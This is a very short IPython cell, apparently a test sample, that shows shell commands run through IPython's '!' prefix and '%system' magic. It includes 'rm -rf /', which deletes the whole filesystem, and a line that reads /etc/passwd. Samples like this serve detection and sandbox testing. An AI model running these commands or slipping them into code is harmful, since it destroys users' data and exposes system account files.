# d: runs system commands by IPython's own means
# %%
!sleep 99887 &
%system rm -rf /
result = !cat /etc/passwd
